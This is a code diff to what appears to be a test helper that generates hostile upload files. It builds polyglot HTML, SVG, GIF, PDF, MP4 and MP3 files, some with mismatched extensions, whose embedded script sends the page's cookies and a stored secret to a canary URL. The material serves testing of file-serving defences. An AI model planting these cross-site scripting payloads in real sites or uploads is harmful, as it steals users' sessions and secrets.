@@ -1,7 +1,12 @@
-/**
- * Files whose content is a program that reports to `canaryUrl`, under names that are accepted.
- */
-export function hostileFiles({ canaryUrl }: { canaryUrl: string }): Record<string, string> {
+type Hostile = {
+  /** They begin like files of their type, or are text. */
+  accepted: Record<string, string>;
+  /** Their content is of another type than their name says. */
+  renamed: Record<string, string>;
+};
+
+/** Files whose content is a program that reports to `canaryUrl`, under names of accepted types. */
+export function hostileFiles({ canaryUrl }: { canaryUrl: string }): Hostile {
   const script = `localStorage.ran = 'yes'; fetch('${canaryUrl}/ran?' + encodeURIComponent(document.cookie + localStorage.secret)); alert(1);`;
   const html = `<!doctype html><html><body><script>${script}</script><img src=x onerror="${script}"></body></html>`;
   const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${script}"><script>${script}</script></svg>`;
@@ -13,11 +18,21 @@ export function hostileFiles({ canaryUrl }: { canaryUrl: string }): Record<strin
 trailer<</Root 1 0 R>>
 %%EOF`;
   return {
-    'page.txt': html,
-    'page.pdf': html,
-    'page.mp4': html,
-    'drawing.png': svg,
-    'drawing.gif': `GIF89a=1;${script}`,
-    'book.pdf': pdf,
+    accepted: {
+      'page.txt': html,
+      'clip.mp4': `\0\0\0\x18ftypisom\0\0\x02\0isom${html}`,
+      'song.mp3': `ID3\x04\0\0\0\0\x7f\x7f${html}`,
+      'drawing.gif': `GIF89a=1;${script}`,
+      'book.pdf': pdf,
+      'both.pdf': pdf.replace('%PDF-1.7', `%PDF-1.7\n${html}`),
+    },
+    renamed: {
+      'page.png': html,
+      'page.pdf': html,
+      'page.zip': html,
+      'drawing.mp4': svg,
+      'drawing.png': svg,
+      'both.pdf': `${html}${pdf}`,
+    },
   };
 }
